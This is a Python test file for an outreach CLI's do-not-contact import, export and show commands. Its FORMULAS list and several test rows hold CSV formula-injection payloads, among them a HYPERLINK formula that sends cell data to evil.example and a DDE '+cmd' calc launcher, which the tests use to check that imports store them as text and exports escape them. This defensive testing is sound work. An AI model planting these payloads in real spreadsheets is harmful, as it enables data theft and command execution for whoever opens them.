"""``outreach contacts import|export|show``: a do-not-contact CSV in, the ledger's contacts out (never the
inbound receipts in the same table), cells never formulas; what a record says of replies."""

from __future__ import annotations

import csv
import json
from datetime import UTC, date, datetime
from pathlib import Path

import boto3
import pytest

from outreach import contacts, task_store
from outreach.email_task import email_task_id
from outreach.task_model import Status
from outreach_operator.cli.contacts import do_not_contact_file
from outreach_operator.cli.contacts.do_not_contact_file import read_do_not_contact
from outreach_operator.contacts import records
from tests.outreach_operator.cli.campaign_support import CAMPAIGN_ID
from tests.outreach_operator.cli.campaign_support import schedule_example as schedule
from tests.outreach_operator.cli.conftest import CONTACTS_TABLE, OPERATOR, Run, as_json
from tests.outreach_operator.cli.ledger_support import ledger_items, record_address_stop
from tests.support.aws import REGION, Resources

pytestmark = pytest.mark.usefixtures("ses_account")

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]


def _file(tmp_path: Path, text: str, name: str = "dnc.csv") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def test_import_reports_bad_rows_by_number_and_field_and_changes_nothing(
    run: Run, resources: Resources, email_flags: list[str], tmp_path: Path
) -> None:
    path = _file(
        tmp_path,
        "Email,Domain,Why\n"  # line 1: the header, names compared without case
        "ok@acme.example,,asked\n"  # 2
        "not an address,,\n"  # 3
        "a@acme.example,acme.example,\n"  # 4: both
        '"=HYPERLINK(""https://evil.example"",""x"")",,\n'  # 5: a formula is data: not an address
        f"b@acme.example,,{'w' * 401}\n"  # 6: why too long
        ",bad_domain!,\n"  # 7
        ",,\n"  # 8: empty, skipped
        ",,someone forgot the address\n"  # 9: no email or domain
        f"{'c' * 1001}@acme.example,,\n",  # 10: a cell over 1,000 characters
    )
    result = run("contacts", "import", "--file", str(path), extra=[*email_flags, "--json"])
    assert result.exit_code == 2, result.output
    bad = [(row["row"], row["field"]) for row in json.loads(result.stdout)["bad_rows"]]
    assert bad == [
        (3, "email"),
        (4, "domain"),
        (5, "email"),
        (6, "why"),
        (7, "domain"),
        (9, "email"),
        (10, "email"),
    ]
    assert "7 rows cannot be imported; nothing changed" in result.stderr
    assert ledger_items() == []


def test_import_with_skip_invalid_blocks_the_valid_rows_and_cancels_their_open_emails(
    run: Run, resources: Resources, email_flags: list[str], tmp_path: Path
) -> None:
    as_json(schedule(run, email_flags))
    path = _file(
        tmp_path,
        "email,domain,why\n"
        "Info@Northwind.example,,bought list opt-out\n"
        ",fabrikam.example,\n"
        "broken,,\n"
        "info@northwind.example,,again\n",  # the same key as line 2
    )
    report = as_json(
        run("contacts", "import", "--file", str(path), "--skip-invalid", extra=["--json", *email_flags])
    )
    assert (report["blocked"], report["already_stopped"], report["cancelled"]) == (2, 0, 4)
    assert report["duplicates"] == [{"row": 5, "same_as_row": 2}]
    assert [(r["row"], r["field"]) for r in report["bad_rows"]] == [(4, "email")]
    northwind = contacts.stop_of("info@northwind.example")
    assert northwind is not None
    assert (northwind.state, northwind.source) == (contacts.State.BLOCKED, contacts.Source.IMPORT)
    assert northwind.why == f"bought list opt-out (import by {OPERATOR})"
    fabrikam = contacts.stop_of("sales@fabrikam.example")
    assert fabrikam is not None and fabrikam.why == f"do-not-contact list dnc.csv (import by {OPERATOR})"
    for address in ("info@northwind.example", "sales@fabrikam.example"):
        task = task_store.get_task(email_task_id(CAMPAIGN_ID, address, 1))
        assert task is not None and task.status is Status.CANCELLED
    untouched = task_store.get_task(email_task_id(CAMPAIGN_ID, "hello@contoso.example", 1))
    assert untouched is not None and untouched.status is Status.PENDING


def test_an_import_dry_run_counts_what_would_change_and_changes_nothing(
    run: Run, resources: Resources, email_flags: list[str], tmp_path: Path
) -> None:
    as_json(schedule(run, email_flags))
    record_address_stop("hello@contoso.example", contacts.State.UNSUBSCRIBED, contacts.Source.UNSUBSCRIBE)
    before = ledger_items()
    path = _file(tmp_path, "email\ninfo@northwind.example\nhello@contoso.example\n")
    report = as_json(run("contacts", "import", "--file", str(path), "--dry-run", extra=["--json"]))
    assert (report["would_block"], report["already_stopped"], report["would_cancel"]) == (1, 1, 4)
    assert ledger_items() == before


def test_a_formula_in_an_imported_why_is_stored_as_text_and_exported_escaped(
    run: Run, resources: Resources, email_flags: list[str], tmp_path: Path
) -> None:
    rows = "".join(f'x{n}@acme.example,"{f.replace(chr(34), chr(34) * 2)}"\n' for n, f in enumerate(FORMULAS))
    path = _file(tmp_path, "email,why\n" + rows)
    as_json(run("contacts", "import", "--file", str(path), "--why", "unused", extra=["--json", *email_flags]))
    for n, formula in enumerate(FORMULAS):
        stop = contacts.stop_of(f"x{n}@acme.example")
        assert stop is not None and stop.why == f"{formula} (import by {OPERATOR})"
    out = tmp_path / "ledger.csv"
    as_json(run("contacts", "export", "--out", str(out), extra=["--json"]))
    with out.open(encoding="utf-8", newline="") as handle:
        exported = {row["email"]: row["why"] for row in csv.DictReader(handle)}
    assert exported == {f"x{n}@acme.example": f"'{f} (import by {OPERATOR})" for n, f in enumerate(FORMULAS)}


def test_export_escapes_formulas_and_quotes_every_field(
    run: Run, resources: Resources, tmp_path: Path
) -> None:
    for n, formula in enumerate(FORMULAS):
        record_address_stop(f"y{n}@acme.example", contacts.State.BOUNCED, contacts.Source.SES, why=formula)
    assert contacts.record_stop(
        contacts.domain_key("evil.example"),
        contacts.State.BLOCKED,
        at=datetime(2027, 1, 1, tzinfo=UTC),
        why="\t=cmd",
        source=contacts.Source.OPERATOR,
    )
    out = tmp_path / "ledger.csv"
    report = as_json(run("contacts", "export", "--out", str(out), extra=["--json"]))
    assert (report["exported"], report["stops_only"]) == (5, True)
    lines = out.read_text(encoding="utf-8").splitlines()
    assert lines[0].startswith('"email","domain","state","since","why"')
    for line in lines:
        assert line.startswith('"') and line.endswith('"')  # every field quoted (QUOTE_ALL)
    with out.open(encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    formula_starts = ("=", "+", "-", "@", "\t", "\r")
    assert not [cell for cell in cells if cell.lstrip(" ").startswith(formula_starts)]
    assert "'=cmd" in cells  # the why's tab is a space once stored (clean_why), then the = is quoted


def test_an_exported_ledger_reads_back_as_the_same_addresses_and_domains(
    run: Run, resources: Resources, email_flags: list[str], tmp_path: Path
) -> None:
    # '-' and '=' may start an address's local part: the export quotes them, the import unquotes them.
    path = _file(tmp_path, "email,domain\n-info@acme.example,\n=sales@acme.example,\n,globex.example\n")
    as_json(run("contacts", "import", "--file", str(path), extra=["--json", *email_flags]))
    out = tmp_path / "ledger.csv"
    as_json(run("contacts", "export", "--out", str(out), extra=["--json"]))
    assert "'-info@acme.example" in out.read_text(encoding="utf-8")
    again = read_do_not_contact(out)
    assert again.bad == []
    assert sorted(e.subject.key for e in again.entries) == [
        "address#-info@acme.example",
        "address#=sales@acme.example",
        "domain#globex.example",
    ]
    report = as_json(run("contacts", "import", "--file", str(out), extra=["--json", *email_flags]))
    assert (report["blocked"], report["already_stopped"]) == (0, 3)


def test_export_never_overwrites_a_file_without_force(run: Run, resources: Resources, tmp_path: Path) -> None:
    out = _file(tmp_path, "keep me", name="ledger.csv")
    result = run("contacts", "export", "--out", str(out))
    assert result.exit_code == 2
    assert "give --force to overwrite it" in result.stderr
    assert out.read_text(encoding="utf-8") == "keep me"


def test_a_do_not_contact_file_past_its_bounds_is_refused_whole(
    run: Run, resources: Resources, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    large = tmp_path / "large.csv"
    with large.open("wb") as handle:
        handle.write(b"email\n")
        handle.truncate(do_not_contact_file.MAX_FILE_BYTES + 1)  # sparse: no 16 MiB written
    result = run("contacts", "import", "--file", str(large), "--dry-run")
    assert result.exit_code == 2
    assert "more than the 16 MiB a do-not-contact file may have" in result.stderr

    monkeypatch.setattr(do_not_contact_file, "MAX_ROWS", 2)
    many = _file(tmp_path, "email\na@acme.example\nb@acme.example\nc@acme.example\n")
    result = run("contacts", "import", "--file", str(many), "--dry-run")
    assert result.exit_code == 2
    assert "more than 2 rows, the most a do-not-contact file may have (line 4" in result.stderr

    headless = _file(tmp_path, "address,name\na@acme.example,A\n")
    result = run("contacts", "import", "--file", str(headless), "--dry-run")
    assert result.exit_code == 2
    assert "no 'email' or 'domain' column in the header (columns: address, name)" in result.stderr
    assert ledger_items() == []


def test_export_lists_only_address_and_domain_records_never_the_inbound_receipts_beside_them(
    run: Run, resources: Resources, tmp_path: Path
) -> None:
    at = datetime(2027, 3, 2, 10, 0, tzinfo=UTC)
    record_address_stop("gone@acme.example", contacts.State.BOUNCED, contacts.Source.SES)
    assert contacts.record_reply("ada@acme.example", "spring", at=at)
    assert contacts.record_reply("ada@acme.example", "autumn", at=at)
    assert contacts.record_away("ada@acme.example", date(2027, 3, 10), at=at)
    # Two receipts as the inbound processor keeps them in the same table: no address, no state_rank
    # (one with a state_rank all the same: the key's prefix decides, not the attributes).
    dynamodb = boto3.client("dynamodb", region_name=REGION)
    for n, extra in enumerate(({}, {"state_rank": {"N": "4"}})):
        dynamodb.put_item(
            TableName=CONTACTS_TABLE,
            Item={
                "contact_key": {"S": f"inbound#{str(n) * 64}"},
                "kind": {"S": "inbound"},
                "receipt_state": {"S": "forwarded"},
                **extra,
            },
        )
    everyone = list(records.records(stops_only=False))
    assert sorted(r["contact_key"] for r in everyone) == [
        "address#ada@acme.example",
        "address#gone@acme.example",
    ]
    (ada,) = [r for r in everyone if r["contact_key"] == "address#ada@acme.example"]
    assert (ada["replied_campaigns"], ada["away_until"]) == (["autumn", "spring"], "2027-03-10")
    assert [r["contact_key"] for r in records.records(stops_only=True)] == ["address#gone@acme.example"]
    out = tmp_path / "ledger.csv"
    report = as_json(run("contacts", "export", "--out", str(out), "--all", extra=["--json"]))
    assert report["exported"] == 2
    assert "inbound#" not in out.read_text(encoding="utf-8")
    with out.open(newline="", encoding="utf-8") as handle:
        (ada_row,) = [row for row in csv.DictReader(handle) if row["email"] == "ada@acme.example"]
    assert (ada_row["replied_campaigns"], ada_row["away_until"]) == ("autumn spring", "2027-03-10")
    stops = tmp_path / "stops.csv"
    assert as_json(run("contacts", "export", "--out", str(stops), extra=["--json"]))["exported"] == 1


def test_show_gives_the_campaigns_an_address_replied_in_and_until_when_it_is_away(
    run: Run, resources: Resources
) -> None:
    at = datetime(2027, 3, 2, 10, 0, tzinfo=UTC)
    assert contacts.record_reply("ada@acme.example", "spring", at=at)
    assert contacts.record_away("ada@acme.example", date(2027, 3, 10), at=at)
    assert records.FIELDS.index("replied_campaigns") < records.FIELDS.index("replied_at")
    shown = run("contacts", "show", "ada@acme.example")
    assert shown.exit_code == 0, shown.output
    for text in ("replied_campaigns", "1: spring", "replied_at", "away_until", "2027-03-10"):
        assert text in shown.stdout
    report = as_json(run("contacts", "show", "ada@acme.example", extra=["--json"]))
    assert report["record"]["replied_campaigns"] == ["spring"]
